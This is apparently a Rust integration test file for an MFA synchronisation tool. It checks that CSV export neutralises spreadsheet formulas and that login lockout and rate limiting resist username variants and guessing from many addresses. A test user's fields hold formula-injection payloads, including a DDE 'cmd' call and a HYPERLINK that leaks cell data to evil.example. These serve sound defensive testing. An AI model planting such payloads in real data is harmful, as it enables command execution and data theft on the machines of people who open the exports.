//! Hostile input from the directory and password guessing, through the real
//! binary against a real slapd (issue 18, items 4 and 5):
//!
//! - `users export --format csv` neutralises cells a spreadsheet would run
//!   as formulas (raw with `--raw`; JSON as stored);
//! - `POST /api/v1/auth` keys its lock on the directory entry a username
//!   names, so `"user2 "` and fullwidth `"ｕｓｅｒ２"` share `user2`'s lock;
//! - an address over its failure limit is `rate-limited` for the accounts
//!   that failed from it, while a correct password of another account is
//!   still accepted;
//! - portal sign-in is limited per address, and a local administrator
//!   slowed down from one address signs in from another.
//!
//! Addresses are varied with `X-Forwarded-For` from `--trusted-proxy 127.0.0.1`.

use crate::common::KillOnDrop;

use crate::common::Mfa;
use mfasync_testkit::Slapd;
use serde_json::{json, Value};
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

const BASE: &str = "dc=example,dc=com";
const TOKEN: &str = "lockout-test-api-token-0123456789";
const ADMIN_PASSWORD: &str = "correct-horse-battery";

fn slapd() -> &'static Slapd {
    static S: OnceLock<Slapd> = OnceLock::new();
    S.get_or_init(|| {
        let mut l = format!(
            "dn: ou=People,{BASE}\nobjectClass: organizationalUnit\nou: People\n\n\
             dn: ou=Groups,{BASE}\nobjectClass: organizationalUnit\nou: Groups\n\n"
        );
        for u in ["user1", "user2", "user3", "boss"] {
            l.push_str(&format!(
                "dn: uid={u},ou=People,{BASE}\nobjectClass: inetOrgPerson\nuid: {u}\ncn: {u}\nsn: {u}\nuserPassword: {u}-Passw0rd\n\n"
            ));
        }
        // a user who wrote formulas into their own entry, and one with a phone
        l.push_str(&format!(
            "dn: uid=mallory,ou=People,{BASE}\nobjectClass: inetOrgPerson\nuid: mallory\ncn: mallory\n\
             sn: @SUM(1+1)\n\
             givenName: =cmd|' /C calc'!A0\n\
             description: =HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")\n\
             telephoneNumber: +1+SUM(A1:A9)\n\n\
             dn: uid=phoebe,ou=People,{BASE}\nobjectClass: inetOrgPerson\nuid: phoebe\ncn: phoebe\nsn: Phone\n\
             givenName: -Phoebe\ntelephoneNumber: +14255550100\n\n\
             dn: cn=mfa-admins,ou=Groups,{BASE}\nobjectClass: groupOfNames\ncn: mfa-admins\nmember: uid=boss,ou=People,{BASE}\n\n"
        ));
        Slapd::start(&l)
    })
}

/// A database synchronized from ou=People (simple auth binds, the admin
/// group set), with an API token and a local administrator `admin`.
async fn synced() -> Mfa {
    let s = slapd();
    let m = Mfa::new();
    let head = crate::common::openldap_directory(
        &format!("\"{}\"", s.url),
        BASE,
        5,
        (&s.admin_dn, &s.admin_password),
    );
    m.apply(&format!(
        "{head}[directory.auth_bind]\ntype = \"simple\"\n\
         [sync]\nenabled = false\n[[sync.items]]\nkind = \"container\"\ndn = \"ou=People,{BASE}\"\n\
         [portal]\nadmin_group = \"cn=mfa-admins,ou=Groups,{BASE}\"\n"
    ));
    m.sync_full();
    let out = m.run_stdin(
        &["admin", "set-password", "admin", "--password-stdin"],
        &format!("{ADMIN_PASSWORD}\n"),
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let store = mfasync_store::open(&m.url).await.unwrap();
    crate::common::add_api_token(store.as_ref(), "admin", "test", TOKEN).await;
    store.close().await;
    m
}

struct Served {
    /// Killed when the test ends.
    _child: KillOnDrop,
    base: String,
    http: reqwest::Client,
}

/// `serve` behind the trusted proxy 127.0.0.1 (the tests' requests name
/// their client in X-Forwarded-For).
async fn serve(m: &Mfa, extra: &[&str]) -> Served {
    let addr = format!("127.0.0.1:{}", mfasync_testkit::free_port());
    let child = Command::new(env!("CARGO_BIN_EXE_mfasync"))
        .args(["--database", &m.url, "serve", "--listen", &addr])
        .args(["--insecure-cookies", "--trusted-proxy", "127.0.0.1"])
        .args(extra)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let served = Served {
        _child: KillOnDrop(child),
        base: format!("http://{addr}"),
        http: reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .unwrap(),
    };
    let t0 = Instant::now();
    loop {
        let up = served
            .http
            .get(format!("{}/healthz", served.base))
            .send()
            .await
            .is_ok_and(|r| r.status().is_success());
        if up {
            return served;
        }
        assert!(
            t0.elapsed() < Duration::from_secs(20),
            "serve did not start"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// `POST /api/v1/auth` from `client`: (status, Retry-After, body).
async fn auth(s: &Served, client: &str, user: &str, pw: &str) -> (u16, Option<u64>, Value) {
    let resp = s
        .http
        .post(format!("{}/api/v1/auth", s.base))
        .bearer_auth(TOKEN)
        .header("x-forwarded-for", client)
        .json(&json!({"username": user, "password": pw}))
        .send()
        .await
        .unwrap();
    let status = resp.status().as_u16();
    let retry = resp
        .headers()
        .get("retry-after")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse().ok());
    (status, retry, resp.json().await.unwrap())
}

fn ok() -> Value {
    json!({"ok": true})
}

fn reason(r: &str) -> Value {
    json!({"ok": false, "reason": r})
}

/// A portal sign-in from `client` as a browser posts it: (status,
/// Retry-After, whether a session was started).
async fn sign_in(s: &Served, client: &str, user: &str, pw: &str) -> (u16, Option<u64>, bool) {
    let page = s
        .http
        .get(format!("{}/login", s.base))
        .send()
        .await
        .unwrap();
    let cookie = page
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find_map(|v| v.strip_prefix("mfasync_login="))
        .and_then(|v| v.split(';').next())
        .unwrap()
        .to_string();
    let html = page.text().await.unwrap();
    let marker = r#"name="login_csrf" value=""#;
    let start = html.find(marker).unwrap() + marker.len();
    let field = &html[start..start + html[start..].find('"').unwrap()];
    let resp = s
        .http
        .post(format!("{}/login", s.base))
        .header("cookie", format!("mfasync_login={cookie}"))
        .header("origin", &s.base)
        .header("sec-fetch-site", "same-origin")
        .header("x-forwarded-for", client)
        .form(&[("username", user), ("password", pw), ("login_csrf", field)])
        .send()
        .await
        .unwrap();
    let status = resp.status().as_u16();
    let retry = resp
        .headers()
        .get("retry-after")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse().ok());
    let session = resp
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .any(|v| v.starts_with("mfasync_session=") && !v.starts_with("mfasync_session=;"));
    (status, retry, session)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_export_neutralises_formulas_written_in_the_directory() {
    let m = synced().await;
    let json = m.user("mallory").expect("mallory synchronized");
    // JSON carries the values as stored
    assert_eq!(json["first_name"], "=cmd|' /C calc'!A0");
    assert_eq!(json["last_name"], "@SUM(1+1)");
    assert_eq!(
        json["description"],
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"
    );
    assert_eq!(json["business_phone"], "+1+SUM(A1:A9)");
    let phoebe = m.user("phoebe").expect("phoebe synchronized");
    assert_eq!(phoebe["business_phone"], "+14255550100");

    let table = |raw: bool| {
        let mut args = vec!["users", "export", "--format", "csv"];
        if raw {
            args.push("--raw");
        }
        let out = m.ok(&args);
        let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect();
        (out.stdout, header, rows)
    };
    let cell = |header: &[String], rows: &[Vec<String>], user: &str, field: &str| {
        let col = header.iter().position(|h| h == field).unwrap();
        rows.iter().find(|r| r[0] == user).unwrap()[col].clone()
    };
    let (text, header, rows) = table(false);
    assert_eq!(
        cell(&header, &rows, "mallory", "first_name"),
        "'=cmd|' /C calc'!A0"
    );
    assert_eq!(cell(&header, &rows, "mallory", "last_name"), "'@SUM(1+1)");
    assert_eq!(
        cell(&header, &rows, "mallory", "description"),
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"
    );
    assert_eq!(
        cell(&header, &rows, "mallory", "business_phone"),
        "'+1+SUM(A1:A9)"
    );
    assert_eq!(cell(&header, &rows, "phoebe", "first_name"), "'-Phoebe");
    // an E.164 number stays as it is (no formula can be made of digits)
    assert_eq!(
        cell(&header, &rows, "phoebe", "business_phone"),
        "+14255550100"
    );
    assert_eq!(cell(&header, &rows, "mallory", "username"), "mallory");
    // no cell starts a formula, and every cell is quoted
    for line in text.lines() {
        assert!(line.starts_with('"') && line.ends_with('"'), "{line}");
        for part in line.split("\",\"") {
            let part = part.trim_start_matches('"');
            assert!(!part.starts_with(['=', '@', '-']), "{part:?} in {line:?}");
        }
    }

    let (raw_text, raw_header, raw_rows) = table(true);
    assert_eq!(raw_header, header);
    assert_eq!(
        cell(&raw_header, &raw_rows, "mallory", "first_name"),
        "=cmd|' /C calc'!A0"
    );
    assert_eq!(
        cell(&raw_header, &raw_rows, "mallory", "business_phone"),
        "+1+SUM(A1:A9)"
    );
    assert_eq!(
        cell(&raw_header, &raw_rows, "phoebe", "first_name"),
        "-Phoebe"
    );
    assert!(raw_text.contains(",@SUM(1+1),"), "{raw_text}");
    // every user, same values once the quote is taken off
    assert_eq!(rows.len(), raw_rows.len());
    assert_eq!(rows.len(), m.users().len());
    for (safe, raw) in rows.iter().zip(&raw_rows) {
        for (s, r) in safe.iter().zip(raw) {
            assert!(s == r || *s == format!("'{r}"), "{s:?} / {r:?}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_spelling_of_a_locked_account_is_refused() {
    let m = synced().await;
    let s = serve(&m, &[]).await;
    let a = "198.51.100.1";
    // the directory takes these spellings as user2 (the search path) ...
    for spelling in ["user2", "user2 ", "ｕｓｅｒ２", "USER2"] {
        assert_eq!(
            auth(&s, a, spelling, "user2-Passw0rd").await.2,
            ok(),
            "{spelling:?}"
        );
    }
    // ... so wrong passwords under any of them count against user2, from
    // any address (the stored-DN path and the search path name one entry)
    let spellings = ["user2", "user2 ", "ｕｓｅｒ２", "User2", " ｕｓｅｒ２ "];
    for i in 0..10 {
        let from = format!("198.51.100.{}", 10 + i);
        let (status, _, body) = auth(&s, &from, spellings[i % 5], "guess").await;
        assert_eq!((status, body), (200, reason("invalid-credentials")), "{i}");
    }
    for spelling in ["user2", "user2 ", "ｕｓｅｒ２", "USER2"] {
        let (status, retry, body) = auth(&s, "203.0.113.5", spelling, "user2-Passw0rd").await;
        assert_eq!(
            (status, body),
            (429, reason("account-locked")),
            "{spelling:?}"
        );
        assert!(retry.is_some_and(|r| (1..=300).contains(&r)), "{retry:?}");
    }
    // other accounts are not affected
    assert_eq!(auth(&s, a, "user3", "user3-Passw0rd").await.2, ok());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_address_over_its_limit_still_accepts_correct_passwords() {
    let m = synced().await;
    let s = serve(&m, &[]).await;
    let nat = "198.51.100.7";
    // 50 wrong passwords from one address: 5 each for 10 accounts (no account
    // reaches its own limit of 10)
    let names: Vec<String> = ["user1", "user3"]
        .into_iter()
        .map(String::from)
        .chain((0..8).map(|i| format!("nobody{i}")))
        .collect();
    for round in 0..5 {
        for name in &names {
            let (status, _, body) = auth(&s, nat, name, "guess").await;
            assert_eq!(
                (status, body),
                (200, reason("invalid-credentials")),
                "{name} round {round}"
            );
        }
    }
    // a correct password of another account behind that address is accepted
    assert_eq!(
        auth(&s, nat, "user2", "user2-Passw0rd").await,
        (200, None, ok())
    );
    // further guesses at the accounts that failed from there are refused
    // without asking the directory, as the address's limit
    for name in ["user1", "nobody3", "USER3 "] {
        let (status, retry, body) = auth(&s, nat, name, "guess").await;
        assert_eq!((status, body), (429, reason("rate-limited")), "{name}");
        assert!(retry.is_some_and(|r| (1..=300).contains(&r)), "{retry:?}");
    }
    // a new name gets one check; once it failed, it is refused too
    assert_eq!(
        auth(&s, nat, "nobody9", "guess").await.2,
        reason("invalid-credentials")
    );
    assert_eq!(
        auth(&s, nat, "nobody9", "guess").await.2,
        reason("rate-limited")
    );
    // the accounts themselves are not locked: from elsewhere they sign in
    assert_eq!(
        auth(&s, "198.51.100.8", "user1", "user1-Passw0rd").await.2,
        ok()
    );
    let metrics = s
        .http
        .get(format!("{}/metrics", s.base))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        metrics.contains("mfasync_auth_total{outcome=\"rate-limited\"} 4"),
        "{metrics}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn portal_sign_in_is_limited_per_address() {
    let m = synced().await;
    let s = serve(&m, &["--auth-client-limit", "5"]).await;
    let a = "192.0.2.10";
    // one wrong directory password each for five names: under any per-name
    // limit, but the address's fifth failure
    for name in ["user1", "user2", "user3", "boss", "nobody"] {
        assert_eq!(
            sign_in(&s, a, name, "guess").await,
            (401, None, false),
            "{name}"
        );
    }
    // those names are now refused from that address without a check ...
    for name in ["user1", "BOSS", "ｂｏｓｓ"] {
        let (status, retry, session) = sign_in(&s, a, name, "guess").await;
        assert_eq!((status, session), (429, false), "{name}");
        assert!(retry.is_some_and(|r| (1..=300).contains(&r)), "{retry:?}");
    }
    let (status, _, session) = sign_in(&s, a, "boss", "boss-Passw0rd").await;
    assert_eq!((status, session), (429, false), "boss failed from there");
    // ... other names from it are still checked, and other addresses are free
    assert_eq!(
        sign_in(&s, a, "admin", ADMIN_PASSWORD).await,
        (303, None, true)
    );
    assert_eq!(
        sign_in(&s, "192.0.2.11", "boss", "boss-Passw0rd").await,
        (303, None, true)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_local_admin_slowed_down_from_one_address_signs_in_from_another() {
    let m = synced().await;
    let s = serve(&m, &[]).await;
    let stranger = "203.0.113.66";
    for i in 0..10 {
        assert_eq!(
            sign_in(&s, stranger, "admin", "guess").await,
            (401, None, false),
            "{i}"
        );
    }
    // from the stranger's address: a wait, bounded (15 minutes at most)
    for spelling in ["admin", "Admin ", "ａｄｍｉｎ"] {
        let (status, retry, session) = sign_in(&s, stranger, spelling, ADMIN_PASSWORD).await;
        assert_eq!((status, session), (429, false), "{spelling:?}");
        assert!(retry.is_some_and(|r| (1..=900).contains(&r)), "{retry:?}");
    }
    // the administrator elsewhere is not locked out
    assert_eq!(
        sign_in(&s, "192.0.2.50", "admin", ADMIN_PASSWORD).await,
        (303, None, true)
    );
}
